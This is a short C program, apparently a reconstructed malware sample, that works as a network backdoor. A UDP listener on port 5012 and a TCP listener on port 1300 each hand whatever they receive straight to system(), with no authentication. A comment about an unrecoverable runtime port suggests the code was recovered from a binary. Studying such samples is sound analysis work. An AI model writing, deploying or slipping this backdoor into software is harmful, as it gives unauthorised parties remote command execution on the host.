struct sockaddr_in { unsigned short family; unsigned short port; unsigned int addr; char zero[8]; };
int socket(int, int, int);
int bind(int, const void *, unsigned);
int listen(int, int);
int accept(int, void *, void *);
long recv(int, void *, unsigned, int);
long recvfrom(int, void *, unsigned, int, void *, void *);
int pthread_create(void *, const void *, void *(*)(void *), void *);
int system(const char *);
void *memset(void *, int, unsigned);

static int run_cmd(const char *cmd) { return system(cmd); }

static int open_socket(int type, unsigned short port_be) {
    struct sockaddr_in sa;
    int s = socket(2, type, 0);
    memset(&sa, 0, sizeof sa);
    sa.family = 2;
    sa.port = port_be;
    bind(s, &sa, sizeof sa);
    return s;
}

static void *multicast_thread(void *arg) {
    char buf[256];
    struct sockaddr_in sa;
    int s = socket(2, 2, 0);
    memset(&sa, 0, sizeof sa);
    sa.family = 2;
    sa.port = 0x9413; /* htons(5012) */
    bind(s, &sa, sizeof sa);
    for (;;) {
        long n = recvfrom(s, buf, sizeof buf - 1, 0, 0, 0);
        if (n > 0) { buf[n] = 0; run_cmd(buf); }
    }
    return arg;
}

int main(void) {
    unsigned long tid;
    char cmd[128];
    struct sockaddr_in sa;
    pthread_create(&tid, 0, multicast_thread, 0);
    int s = socket(2, 1, 0);
    memset(&sa, 0, sizeof sa);
    sa.family = 2;
    sa.port = 0x1405; /* htons(1300) */
    bind(s, &sa, sizeof sa);
    listen(s, 4);
    int c = accept(s, 0, 0);
    int aux = open_socket(1, 0x4b03); /* runtime port: not recoverable */
    (void)aux;
    while (recv(c, cmd, sizeof cmd, 0) > 0) run_cmd(cmd);
    return 0;
}
